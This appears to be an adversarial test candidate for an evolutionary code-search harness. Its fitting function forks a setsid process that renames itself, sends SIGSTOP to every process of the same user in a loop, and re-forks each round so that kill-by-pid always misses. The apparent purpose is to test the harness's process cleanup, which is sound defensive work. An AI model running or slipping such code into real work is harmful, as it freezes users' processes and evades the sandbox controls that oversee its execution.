"""Attack: leave processes behind that the worker cannot kill one by one: a double-forked,
setsid child that forks again in a loop (each new process replacing its parent) and SIGSTOPs
every other process of the slot uid, including the candidate's own fitting process, which
then never answers. All name themselves __MARK__; they give up by themselves after 30 s."""
# EVOLVE-BLOCK-START
import numpy as np


def survivor():
    import ctypes, os, signal, time
    libc = ctypes.CDLL(None)
    os.setsid()
    if os.fork():
        os._exit(0)
    libc.prctl(15, b"__MARK__", 0, 0, 0)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        libc.kill(-1, signal.SIGSTOP)  # everything of our uid but ourselves
        try:
            if os.fork():
                os._exit(0)  # a new pid every round: a kill by pid always aims at the past
        except OSError:
            pass
    os._exit(0)


def fit_scaling_law(data_points, loss_values):
    import os, time
    if os.fork() == 0:
        try:
            survivor()
        finally:
            os._exit(0)
    time.sleep(30)
    return [float(np.mean(loss_values))]


def scaling_law_func(data_points, params):
    return np.full(len(data_points), params[0])
# EVOLVE-BLOCK-END
